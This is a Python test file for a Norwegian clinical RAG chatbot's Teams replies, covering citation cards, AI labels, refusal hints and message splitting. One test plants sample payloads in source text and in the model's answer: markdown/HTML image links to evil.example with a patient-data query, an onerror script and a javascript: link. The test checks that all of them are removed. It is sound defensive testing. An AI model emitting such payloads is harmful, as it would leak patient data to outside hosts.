"""An Answer as Teams messages: card, citation entities, AI label, splitting."""

from __future__ import annotations

import datetime as dt
import json
import re

from rag.models import Answer, AnswerSentence, Citation, Passage
from tests.conftest import make_settings
from ui.documents import document_url
from ui.teams.cards import CARD_VERSION, FEEDBACK_VERB
from ui.teams.reply import REFUSAL_HINT, REFUSAL_HINTS, build_reply, cited_numbers, split_text

TODAY = dt.date(2026, 11, 24)


def _passage(n: int, **overrides) -> Passage:
    fields = dict(
        chunk_id=f"c{n}",
        doc_id=f"file:nasjonal/kilde-{n}.md",
        text=f"Innhold i kilde {n}. " * 20,
        title=f"Kilde nummer {n}",
        heading_path=["Kapittel", f"Avsnitt {n}"],
        page_start=n,
        page_end=n + 1,
        publisher="Helsedirektoratet",
        doc_type="retningslinje",
        url=f"https://www.helsedirektoratet.no/kilde-{n}",
        updated=dt.date(2025, 3, n),
    )
    fields.update(overrides)
    return Passage(**fields)


def _answer(text: str, passages: list[Passage], **overrides) -> Answer:
    citations = [Citation(number=i + 1, passage=p) for i, p in enumerate(passages)]
    return Answer(question="Spørsmål?", standalone_question="Spørsmål?", text=text, citations=citations,
                  model="smollm2-135m", **overrides)


def _dump(message) -> dict:
    return message.model_dump(by_alias=True, exclude_none=True, mode="json")


def _card(message: dict) -> dict:
    (attachment,) = message["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    return attachment["content"]


def _claims(message: dict) -> list[dict]:
    return [claim for e in message.get("entities", []) for claim in e.get("citation", [])]


def test_one_message_with_text_citations_card_and_ai_label():
    answer = _answer("Gi antibiotika innen en time [1]. Mål laktat [2].", [_passage(1), _passage(2)])
    (message,) = [_dump(m) for m in build_reply(answer, "svar-1", today=TODAY)]

    assert message["text"] == answer.text
    assert any("AIGeneratedContent" in e.get("additionalType", []) for e in message["entities"])
    claims = _claims(message)
    assert [c["position"] for c in claims] == [1, 2]
    assert claims[0]["appearance"]["name"] == "Kilde nummer 1"
    assert claims[0]["appearance"]["url"] == "https://www.helsedirektoratet.no/kilde-1"
    assert len(claims[0]["appearance"]["abstract"]) <= 160

    card = _card(message)
    assert card["type"] == "AdaptiveCard" and card["version"] == CARD_VERSION
    assert card["$schema"] == "http://adaptivecards.io/schemas/adaptive-card.json"
    card_text = json.dumps(card, ensure_ascii=False)
    titles = re.findall(r'"\[(\d+)\] (Kilde nummer \d+)"', card_text)
    assert [int(n) for n, _ in titles] == cited_numbers(answer.text) == [1, 2]
    assert "Kapittel > Avsnitt 1 · s. 1-2 · oppdatert 01.03.2025" in card_text
    assert card_text.count('"title": "Åpne kilde"') == 2
    ratings = [a["data"]["rating"] for a in card["actions"] if a["verb"] == FEEDBACK_VERB]
    assert ratings == [1, -1]
    assert all(a["type"] == "Action.Execute" and a["data"]["answer_id"] == "svar-1" for a in card["actions"])
    assert any(item.get("type") == "Input.Text" and item["id"] == "comment" for item in card["body"])
    # Teams' own feedback buttons too (channelData.feedbackLoop).
    assert message["channelData"]["feedbackLoop"]["type"] == "default"


def test_overdue_local_procedure_gets_a_warning_and_a_local_file_shows_its_title_only():
    local = _passage(1, url="", source_path="/srv/fagprat/dokumenter/fjordbyen/sepsis.pdf",
                     review_due=dt.date(2026, 1, 31), publisher="Fjordbyen sykehus", doc_type="prosedyre")
    current = _passage(2, review_due=dt.date(2027, 1, 1))
    (message,) = [_dump(m) for m in build_reply(_answer("A [1]. B [2].", [local, current]), "x", today=TODAY)]
    card_text = json.dumps(_card(message), ensure_ascii=False)
    assert card_text.count("Revisjonsfristen") == 1
    assert "Revisjonsfristen (31.01.2026) er passert" in card_text
    assert "[1] Kilde nummer 1" in card_text
    assert card_text.count("Åpne kilde") == 1  # only the web link can be opened from Teams
    # No server path anywhere: not on the card, not in the citation entity, not in the fallback text.
    assert "sepsis.pdf" not in json.dumps(message, ensure_ascii=False)
    assert "url" not in _claims(message)[0]["appearance"]


def test_a_local_file_links_to_the_chats_document_route_when_the_chat_has_a_public_address(tmp_path):
    settings = make_settings(tmp_path, chat_public_url="https://fagprat.sykehus.example/",
                             chat_file_roots=[tmp_path / "dokumenter"])
    local = _passage(1, url="", doc_id="file:fjordbyen/sepsis.pdf",
                     source_path=str(tmp_path / "dokumenter" / "fjordbyen" / "sepsis.pdf"))
    outside = _passage(2, url="", doc_id="file:annet/hemmelig.pdf", source_path="/etc/hemmelig.pdf")
    (message,) = [_dump(m) for m in build_reply(_answer("A [1]. B [2].", [local, outside]), "x", today=TODAY,
                                               document_link=lambda p: document_url(settings, p))]
    route = "https://fagprat.sykehus.example/fagprat/dokument/file:fjordbyen/sepsis.pdf#page=1"
    card = _card(message)
    opened = [a["url"] for a in _actions(card) if a["type"] == "Action.OpenUrl"]
    assert opened == [route]
    assert _claims(message)[0]["appearance"]["url"] == route
    assert "url" not in _claims(message)[1]["appearance"]  # not under an allowed root: title only
    text = json.dumps(message, ensure_ascii=False)
    assert str(tmp_path) not in text and "/etc/hemmelig.pdf" not in text


def _actions(card: dict) -> list[dict]:
    found = []

    def walk(node):
        if isinstance(node, dict):
            if node.get("type", "").startswith("Action."):
                found.append(node)
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(card.get("body", []))
    return found


def _card_texts(card: dict) -> list[str]:
    texts = []

    def walk(node):
        if isinstance(node, dict):
            if node.get("type") == "TextBlock":
                texts.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(card["body"])
    return texts


def test_a_generated_answer_card_says_what_was_checked_and_shows_the_supporting_text():
    passage = _passage(1, text="Antibiotika gis innen én time ved sepsis med organsvikt. Mål laktat.")
    answer = _answer("Gi antibiotika innen en time [1].", [passage], kind="generated",
                     sentences=[AnswerSentence(text="Gi antibiotika innen en time.", citations=[1], verified=True,
                                               evidence="Antibiotika gis innen én time ved sepsis med organsvikt.")])
    answer.citations[0].highlights = ["Antibiotika gis innen én time ved sepsis med organsvikt."]
    texts = _card_texts(_card(_dump(build_reply(answer, "x", today=TODAY)[0])))
    assert texts[0].startswith("✔ Kontrollert")
    assert "«Antibiotika gis innen én time ved sepsis med organsvikt.»" in texts
    assert not any("verifisert" in t for t in texts)


def test_an_unverified_sentence_kept_by_the_setting_has_no_citation_and_the_card_warns():
    answer = _answer(
        "Gi antibiotika innen en time [1]. Gi 2 g paracetamol (ikke verifisert mot kildene)",
        [_passage(1)],
        kind="generated",
        sentences=[
            AnswerSentence(text="Gi antibiotika innen en time.", citations=[1], verified=True),
            AnswerSentence(text="Gi 2 g paracetamol", verified=False),
        ],
        uncited_sentences=["Gi 2 g paracetamol"],
    )
    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
    assert [c["position"] for c in _claims(message)] == [1]
    texts = _card_texts(_card(message))
    assert any("ikke verifisert" in t and "Ikke stol på dem" in t for t in texts)


def test_a_quote_answer_says_it_is_quoted_and_keeps_one_paragraph_per_quote():
    passage = _passage(1, text="PVK skal inspiseres minst hver 8. time. Skift ved tegn på flebitt.")
    text = ("Sitater fra kildene, ordrett (ikke skrevet av en språkmodell):\n"
            "«PVK skal inspiseres minst hver 8. time.» [1]\n«Skift ved tegn på flebitt.» [1]")
    answer = _answer(text, [passage], kind="quote", fallback_reason="quote_mode",
                     sentences=[AnswerSentence(text="PVK skal inspiseres minst hver 8. time.", citations=[1],
                                               verified=True, quote=True)],
                     notices=["Sitatsvar: ingen språkmodell skriver svar her."])
    answer.citations[0].highlights = ["PVK skal inspiseres minst hver 8. time."]
    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
    assert message["text"].split("\n\n") == text.split("\n")
    texts = _card_texts(_card(message))
    assert texts[0] == "Sitatsvar: setningene er sitert ordrett fra kildene."
    assert "«PVK skal inspiseres minst hver 8. time.»" in texts
    assert "Sitatsvar: ingen språkmodell skriver svar her." in texts


def test_model_and_document_text_cannot_put_images_html_or_script_links_in_teams():
    planted = _passage(1, title="Kilde ![x](https://evil.example/t.png)",
                       text="Tekst <img src=https://evil.example/leak.png>")
    answer = _answer("Svar ![spor](https://evil.example/leak?q=pasient) <img src=x onerror=alert(1)> "
                     "[klikk](javascript:alert(1)) [1].", [planted])
    answer.citations[0].highlights = ["Se <img src=https://evil.example/leak.png> her"]
    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
    everything = message["text"] + json.dumps(_card(message), ensure_ascii=False)
    assert "![" not in everything and "<img" not in everything
    assert "](javascript:" not in message["text"]
    assert [c["position"] for c in _claims(message)] == [1]


def test_nynorsk_refusal_gets_a_nynorsk_hint():
    answer = _answer("Eg finn ikkje svar på dette i retningslinjene som er tilgjengelege.", [], refused=True,
                     kind="refusal", language="nn", refusal_reason="no_relevant_sources")
    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
    assert message["text"].endswith(REFUSAL_HINTS["nn"])
    assert _card_texts(_card(message))[0] == "Var svaret nyttig?"


def test_refusal_is_shown_with_a_hint_and_no_sources():
    answer = _answer("Jeg finner ikke noe om dette i kildene.", [], refused=True, refusal_reason="no_relevant_sources")
    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
    assert message["text"].startswith("Jeg finner ikke noe om dette i kildene.")
    assert REFUSAL_HINT in message["text"]
    assert _claims(message) == []
    assert "Kilder" not in json.dumps(_card(message)["body"], ensure_ascii=False)


def test_notices_are_shown_on_the_card():
    answer = _answer("Svar [1].", [_passage(1)], notices=["Et fødselsnummer i spørsmålet ble maskert."])
    card_text = json.dumps(_card(_dump(build_reply(answer, "x", today=TODAY)[0])), ensure_ascii=False)
    assert "Et fødselsnummer i spørsmålet ble maskert." in card_text


def test_long_answer_is_split_between_sentences_with_each_part_citing_its_own_sources():
    passages = [_passage(n) for n in range(1, 4)]
    sentences = [f"Setning nummer {i} om behandling og dosering av legemidler [{i % 3 + 1}]." for i in range(400)]
    answer = _answer(" ".join(sentences), passages)
    max_bytes = 12_000
    messages = [_dump(m) for m in build_reply(answer, "x", max_bytes=max_bytes, today=TODAY)]

    assert len(messages) > 1
    assert " ".join(m["text"] for m in messages) == answer.text
    for message in messages:
        assert len(json.dumps(message).encode()) <= max_bytes
        assert message["text"].endswith("].")  # every part ends after a cited sentence
        assert [c["position"] for c in _claims(message)] == cited_numbers(message["text"])
        assert any("AIGeneratedContent" in e.get("additionalType", []) for e in message["entities"])
    assert all("attachments" not in m for m in messages[:-1])
    assert "attachments" in messages[-1]


def test_split_never_cuts_a_citation_marker_even_inside_an_overlong_sentence():
    text = "Start. " + " ".join(f"ord{i} [{i % 9 + 1}]" for i in range(300)) + "."
    parts = split_text(text, 400)
    assert len(parts) > 1
    assert all(len(p.encode()) <= 400 for p in parts)
    assert " ".join(parts) == text
    for part in parts:
        assert not re.search(r"\[\d*$", part) and not re.match(r"^\d*\]", part)


def test_split_keeps_paragraphs_and_a_marker_after_a_full_stop_with_its_sentence():
    text = "Første avsnitt er langt nok. [1]\n\nAndre avsnitt:\n- punkt en [2]\n- punkt to."
    parts = split_text(text, 40)
    assert parts[0] == "Første avsnitt er langt nok. [1]"
    assert "\n- punkt en [2]" in "\n".join(parts)


def test_short_text_is_not_split():
    assert split_text("Kort svar [1].", 1000) == ["Kort svar [1]."]
